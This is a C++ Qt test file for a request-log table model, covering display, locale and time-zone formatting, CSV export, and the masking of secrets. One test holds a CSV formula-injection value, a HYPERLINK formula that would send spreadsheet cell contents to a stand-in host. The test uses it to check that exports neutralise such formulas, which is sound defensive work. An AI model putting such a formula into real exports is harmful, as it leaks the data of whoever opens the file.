// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/requestlogmodel.h"
#include "support/csvreader.h"
#include "support/testprogram.h"
#include "support/testzone.h"

#include <QAbstractItemModelTester>
#include <QSignalSpy>
#include <QTest>

using namespace Qt::StringLiterals;
using Model = RequestLogModel;

namespace {

RequestRecord record(int number = 1)
{
    return {
        .startedAt = 1722306336558,
        .host = u"aitems.apigw.ntruss.com"_s,
        .target = "/api/v1/services/" + QByteArray::number(number),
        .timestamp = "1722306336558",
        .accessKey = "EXAM************0001",
        .signature = "c2lnbmF0dXJl",
        .attempt = 1,
        .duration = std::chrono::milliseconds(1234),
        .httpStatus = 200,
        .bytes = 30412,
        .traceId = u"trace-1"_s,
        .error = {},
        .wasAborted = false,
        .serverTime = 1722306336000};
}

RequestRecord failed(ApiError::Kind kind, int httpStatus = 0)
{
    RequestRecord result = record();
    result.error = kind;
    result.httpStatus = httpStatus;
    return result;
}

QString cell(const Model &model, int row, int column)
{
    return model.index(row, column).data().toString();
}

} // namespace

class RequestLogModelTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void beginsWithWhatIsThere();
    void newOnesComeAtTheEnd();
    void oldestGoesWhenTheLogIsFull();
    void tellsEachRequest();
    void numbersAreThoseOfTheReader();
    void outcomeIsStatusOrWord_data();
    void outcomeIsStatusOrWord();
    void everyErrorHasAWordOfItsOwn();
    void timesFollowTheZone();
    void wholeAddressStandsInTheToolTip();
    void csvHoldsAllThatIsKnown();
    void csvIsTheSameInEveryLanguage();
    void csvQuotesWhatNeedsIt();
    void csvHasNoFormulas();
    void csvOfAnEmptyLogIsItsHeader();
    void nothingSecretIsShownOrSaved();
};

void RequestLogModelTest::beginsWithWhatIsThere()
{
    RequestLog log;
    log.add(record(1));
    log.add(record(2));
    const Model model(&log);
    QCOMPARE(model.rowCount(), 2);
    QCOMPARE(model.columnCount(), 6);
    QCOMPARE(cell(model, 0, Model::Path), u"/api/v1/services/1"_s);
    QCOMPARE(cell(model, 1, Model::Path), u"/api/v1/services/2"_s);
}

void RequestLogModelTest::newOnesComeAtTheEnd()
{
    RequestLog log;
    Model model(&log);
    const QAbstractItemModelTester tester(&model);
    const QSignalSpy inserted(&model, &Model::rowsInserted);
    const QSignalSpy reset(&model, &Model::modelReset);
    for (int i = 0; i < 3; ++i) {
        log.add(record(i));
        QCOMPARE(inserted.count(), i + 1);
        QCOMPARE(inserted.last().at(1).toInt(), i);
        QCOMPARE(inserted.last().at(2).toInt(), i);
        QCOMPARE(cell(model, i, Model::Path), QString(u"/api/v1/services/%1"_s.arg(i)));
    }
    QVERIFY(reset.isEmpty());
}

void RequestLogModelTest::oldestGoesWhenTheLogIsFull()
{
    RequestLog log;
    Model model(&log);
    const QAbstractItemModelTester tester(&model);
    for (int i = 0; i < int(RequestLog::capacity); ++i)
        log.add(record(i));
    QCOMPARE(model.rowCount(), int(RequestLog::capacity));
    const QPersistentModelIndex oldest = model.index(0, 0);
    const QPersistentModelIndex next = model.index(1, 0);

    log.add(record(1000));
    QCOMPARE(model.rowCount(), int(RequestLog::capacity));
    QVERIFY(!oldest.isValid());
    QCOMPARE(next.row(), 0);
    QCOMPARE(cell(model, 0, Model::Path), u"/api/v1/services/1"_s);
    QCOMPARE(cell(model, model.rowCount() - 1, Model::Path), u"/api/v1/services/1000"_s);
    for (int row = 0; row < model.rowCount(); ++row) {
        QCOMPARE(cell(model, row, Model::Path), QString::fromLatin1(log.records().at(row).target));
    }
}

void RequestLogModelTest::tellsEachRequest()
{
    RequestLog log;
    RequestRecord third = record();
    third.attempt = 3;
    log.add(third);
    const Model model(&log);
    QCOMPARE(cell(model, 0, Model::Time), u"2024-07-30 11:25:36.558"_s); // the zone is Tokyo's
    QCOMPARE(cell(model, 0, Model::Path), u"/api/v1/services/1"_s);
    QCOMPARE(cell(model, 0, Model::Status), u"200"_s);
    QCOMPARE(cell(model, 0, Model::Attempt), u"3"_s);
    QVERIFY(cell(model, 0, Model::Duration).endsWith(u" ms"_s));

    QStringList titles;
    for (int column = 0; column < model.columnCount(); ++column)
        titles += model.headerData(column, Qt::Horizontal).toString();
    QCOMPARE(
        titles,
        QStringList(
            {u"Time (%1)"_s.arg(testZoneName()), u"Path"_s, u"Status"_s, u"Attempt"_s,
             u"Duration"_s, u"Bytes"_s}));
}

void RequestLogModelTest::numbersAreThoseOfTheReader()
{
    RequestLog log;
    log.add(record());
    const QLocale before;
    QLocale::setDefault(QLocale(QLocale::German));
    const Model german(&log);
    QLocale::setDefault(QLocale(QLocale::English));
    const Model english(&log);
    QLocale::setDefault(before);
    QCOMPARE(cell(german, 0, Model::Duration), u"1.234 ms"_s);
    QCOMPARE(cell(german, 0, Model::Bytes), u"30.412"_s);
    QCOMPARE(cell(english, 0, Model::Duration), u"1,234 ms"_s);
    QCOMPARE(cell(english, 0, Model::Bytes), u"30,412"_s);
}

void RequestLogModelTest::outcomeIsStatusOrWord_data()
{
    QTest::addColumn<RequestRecord>("record");
    QTest::addColumn<QString>("expected");
    const auto row = [](const char *name, const RequestRecord &record, const QString &expected) {
        QTest::newRow(name) << record << expected;
    };
    row("good", record(), u"200"_s);
    row("refused", failed(ApiError::Kind::AuthenticationFailed, 401), u"401 Keys not accepted"_s);
    row("no answer", failed(ApiError::Kind::HostNotFound), u"Host not found"_s);
    row("half an answer", failed(ApiError::Kind::ConnectionLost, 200), u"200 Connection lost"_s);
    RequestRecord aborted = record();
    aborted.wasAborted = true;
    row("aborted amid the answer", aborted, u"200 Cancelled"_s);
    aborted.httpStatus = 0;
    row("aborted", aborted, u"Cancelled"_s);
}

void RequestLogModelTest::outcomeIsStatusOrWord()
{
    QFETCH(const RequestRecord, record);
    QFETCH(const QString, expected);
    QCOMPARE(outcomeText(record), expected);
    RequestLog log;
    log.add(record);
    const Model model(&log);
    QCOMPARE(cell(model, 0, Model::Status), expected);
}

void RequestLogModelTest::everyErrorHasAWordOfItsOwn()
{
    QSet<QString> words;
    for (int kind = 0; kind <= int(ApiError::Kind::TookTooMuchMemory); ++kind) {
        const QString word = outcomeText(failed(ApiError::Kind(kind)));
        QVERIFY(!word.isEmpty());
        words.insert(word);
    }
    QCOMPARE(words.size(), int(ApiError::Kind::TookTooMuchMemory) + 1);
}

void RequestLogModelTest::timesFollowTheZone()
{
    RequestLog log;
    log.add(record());
    log.add(record());
    Model model(&log);
    const QAbstractItemModelTester tester(&model);
    const QSignalSpy changed(&model, &Model::dataChanged);
    const QSignalSpy headerChanged(&model, &Model::headerDataChanged);
    model.setZone(QTimeZone::utc());
    QCOMPARE(cell(model, 1, Model::Time), u"2024-07-30 02:25:36.558"_s);
    QVERIFY(model.headerData(Model::Time, Qt::Horizontal, Qt::ToolTipRole)
                .toString()
                .contains(u"UTC"_s));
    QCOMPARE(changed.count(), 1);
    QCOMPARE(changed.first().at(1).toModelIndex(), model.index(1, Model::Time));
    QCOMPARE(headerChanged.count(), 1);
}

void RequestLogModelTest::wholeAddressStandsInTheToolTip()
{
    RequestLog log;
    log.add(record());
    const Model model(&log);
    QCOMPARE(
        model.index(0, Model::Path).data(Qt::ToolTipRole).toString(),
        u"aitems.apigw.ntruss.com/api/v1/services/1"_s);
}

void RequestLogModelTest::csvHoldsAllThatIsKnown()
{
    RequestLog log;
    log.add(record());
    RequestRecord second = failed(ApiError::Kind::TimedOut);
    second.attempt = 2;
    second.serverTime.reset();
    second.traceId.clear();
    second.bytes = 0;
    log.add(second);
    const Model model(&log);
    const auto records = readCsv(model.toCsv());
    QVERIFY(records);
    QCOMPARE(records->size(), 3);
    QCOMPARE(
        records->at(0),
        (QStringList{
            u"time"_s, u"method"_s, u"host"_s, u"path"_s, u"status"_s, u"problem"_s, u"attempt"_s,
            u"durationMs"_s, u"bytes"_s, u"serverTime"_s, u"traceId"_s}));
    QCOMPARE(
        records->at(1),
        (QStringList{
            u"2024-07-30T02:25:36.558Z"_s, u"GET"_s, u"aitems.apigw.ntruss.com"_s,
            u"/api/v1/services/1"_s, u"200"_s, u""_s, u"1"_s, u"1234"_s, u"30412"_s,
            u"2024-07-30T02:25:36.000Z"_s, u"trace-1"_s}));
    QCOMPARE(
        records->at(2),
        (QStringList{
            u"2024-07-30T02:25:36.558Z"_s, u"GET"_s, u"aitems.apigw.ntruss.com"_s,
            u"/api/v1/services/1"_s, u""_s, u"Timed out"_s, u"2"_s, u"1234"_s, u"0"_s, u""_s,
            u""_s}));
}

void RequestLogModelTest::csvIsTheSameInEveryLanguage()
{
    RequestLog log;
    log.add(failed(ApiError::Kind::AuthenticationFailed, 401));
    const Model model(&log);
    const QByteArray csv = model.toCsv();
    const QLocale before;
    QLocale::setDefault(QLocale(QLocale::Arabic, QLocale::Egypt));
    Model arabic(&log);
    QLocale::setDefault(before);
    arabic.setZone(QTimeZone("Asia/Seoul"));
    QVERIFY(cell(arabic, 0, Model::Bytes) != cell(model, 0, Model::Bytes));
    QCOMPARE(arabic.toCsv(), csv);
}

void RequestLogModelTest::csvQuotesWhatNeedsIt()
{
    RequestLog log;
    RequestRecord odd = record();
    odd.target = "/api/v1/services/a,b";
    odd.traceId = u"say \"hello\",\r\n추적"_s;
    log.add(odd);
    const QByteArray csv = Model(&log).toCsv();
    const auto records = readCsv(csv);
    QVERIFY(records);
    QCOMPARE(records->size(), 2);
    QCOMPARE(records->at(1).at(3), u"/api/v1/services/a,b"_s);
    QCOMPARE(records->at(1).last(), odd.traceId);
    QVERIFY(csv.contains(",\"/api/v1/services/a,b\","));
    QVERIFY(csv.endsWith("\"say \"\"hello\"\",\r\n추적\"\r\n"));
}

// The service chooses the trace id.
void RequestLogModelTest::csvHasNoFormulas()
{
    RequestLog log;
    RequestRecord odd = record();
    odd.traceId = u"=HYPERLINK(\"http://a/?\"&A1)"_s;
    log.add(odd);
    const auto records = readCsv(Model(&log).toCsv());
    QVERIFY(records);
    QCOMPARE(records->at(1).last(), QString(u'\'' + odd.traceId));
}

void RequestLogModelTest::csvOfAnEmptyLogIsItsHeader()
{
    const RequestLog log;
    const QByteArray csv = Model(&log).toCsv();
    QVERIFY(csv.startsWith("time,method,"));
    QCOMPARE(csv.count('\n'), 1);
    QVERIFY(csv.endsWith("\r\n"));
}

// Not even what the record may hold: the masked key and the signature.
void RequestLogModelTest::nothingSecretIsShownOrSaved()
{
    RequestLog log;
    log.add(record());
    const Model model(&log);
    QString all = QString::fromUtf8(model.toCsv());
    for (int column = 0; column < model.columnCount(); ++column) {
        const QMap<int, QVariant> data = model.itemData(model.index(0, column));
        for (const QVariant &value : data)
            all += value.toString();
    }
    QVERIFY(all.contains(u"/api/v1/services/1"_s));
    QVERIFY(!all.contains(u"EXAM"_s));
    QVERIFY(!all.contains(u"c2lnbmF0dXJl"_s));
}

static const RegisteredTest registered(__FILE__, runTest<RequestLogModelTest, QCoreApplication>);
#include "tst_requestlogmodel.moc"
